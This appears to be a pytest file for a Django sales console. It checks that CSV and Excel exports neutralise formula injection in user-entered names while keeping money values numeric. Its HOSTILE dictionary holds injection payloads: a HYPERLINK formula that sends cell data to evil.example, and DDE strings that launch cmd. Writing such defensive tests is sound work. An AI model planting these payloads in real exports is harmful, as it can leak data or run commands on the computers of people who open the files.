"""Names typed by users (a site, a machine, a customer, a clerk) never become live formulas in the
console's CSV and Excel exports (formula/CSV injection), while numbers stay numbers."""

import csv
import io
from decimal import Decimal as D

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.exports import table_file
from staff.counter import SaleLine, counter_collect, counter_sale_create, shift_open
from tests.factories import CustomerFactory, DeviceFactory, make_order

pytestmark = pytest.mark.django_db

HOSTILE = {
    "site": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "device": "+cmd|' /C calc'!A0",
    "customer": "-2+3+cmd|' /C calc'!A0",
    "clerk": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _csv_cells(response):
    assert response.status_code == 200
    return [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]


def _xlsx_cells(response):
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def _assert_no_formula_in_csv(cells, expected):
    for cell in cells:
        if isinstance(cell, str) and cell.startswith(TRIGGERS):
            # only a plain number may start with a minus sign
            float(cell)
    for text in expected:
        assert "'" + text in cells, f"{text!r} missing from the CSV"


def _assert_no_formula_in_xlsx(cells, expected):
    for cell in cells:
        assert cell.data_type != "f", f"cell {cell.coordinate} is a formula: {cell.value!r}"
        if cell.data_type == "s" and isinstance(cell.value, str) and cell.value.startswith(TRIGGERS):
            assert cell.quotePrefix, f"cell {cell.coordinate} would turn into a formula when edited"
    texts = [cell.value for cell in cells]
    for text in expected:
        assert text in texts, f"{text!r} missing from the workbook (the name must be kept as it is)"


def test_the_order_export_keeps_hostile_names_as_text_and_money_as_numbers(world, client):
    world.east_store.name = HOSTILE["site"]
    world.east_store.save()
    device = DeviceFactory(site=world.east_store, name=HOSTILE["device"])
    customer = CustomerFactory(name=HOSTILE["customer"], phone="")
    order = make_order(site=world.east_store, device=device, customer=customer, paid=True, total=D("12.50"))
    client.force_login(world.admin)
    url = reverse("orders:order-export")
    expected = [HOSTILE["site"], str(device), str(customer)]

    _assert_no_formula_in_csv(_csv_cells(client.get(url, {"format": "csv"})), expected)

    cells = _xlsx_cells(client.get(url, {"format": "xlsx"}))
    _assert_no_formula_in_xlsx(cells, expected)
    row = [cell for cell in cells if cell.row == 2]
    assert row[0].value == order.number
    assert D("12.50") in [cell.value for cell in row if cell.data_type == "n"], "money must stay a number"


def test_the_clerk_performance_export_keeps_a_hostile_clerk_name_as_text(world, client):
    world.clerk.first_name, world.clerk.last_name = HOSTILE["clerk"], ""
    world.clerk.save()
    shift_open(actor=world.clerk, site=world.east_store, opening_float=D("0"))
    order = counter_sale_create(actor=world.clerk, site=world.east_store, lines=[SaleLine(None, 1, "x", D("10.00"))])
    counter_collect(actor=world.clerk, order=order, method="cash", tendered=D("10.00"))
    client.force_login(world.manager)
    url = reverse("staff:performance")

    _assert_no_formula_in_csv(_csv_cells(client.get(url, {"export": "csv"})), [HOSTILE["clerk"]])
    cells = _xlsx_cells(client.get(url, {"export": "xlsx"}))
    _assert_no_formula_in_xlsx(cells, [HOSTILE["clerk"]])
    assert 10.0 in [cell.value for cell in cells if cell.data_type == "n"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_tab_and_carriage_return_lead_ins_are_neutralised_but_negative_numbers_stay_numbers(fmt):
    rows = [[HOSTILE["tab"], D("-5.25"), -3, "-7.5"], [HOSTILE["cr"], D("0"), 0, "plain"]]
    content, _type = table_file(["name", "amount", "count", "text"], rows, fmt)
    if fmt == "csv":
        table = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
        assert table[1] == ["'" + HOSTILE["tab"], "-5.25", "-3", "-7.5"]
        assert table[2][0] == "'" + HOSTILE["cr"]
    else:
        sheet = load_workbook(io.BytesIO(content)).active
        assert sheet["A2"].value == HOSTILE["tab"] and sheet["A2"].data_type == "s" and sheet["A2"].quotePrefix
        # XML reads a carriage return back as a line feed
        assert sheet["A3"].value.endswith("=1+1") and sheet["A3"].quotePrefix
        assert sheet["B2"].value == -5.25 and sheet["B2"].data_type == "n"
        assert sheet["C2"].value == -3 and sheet["C2"].data_type == "n"
        assert sheet["D2"].value == "-7.5" and not sheet["D2"].quotePrefix
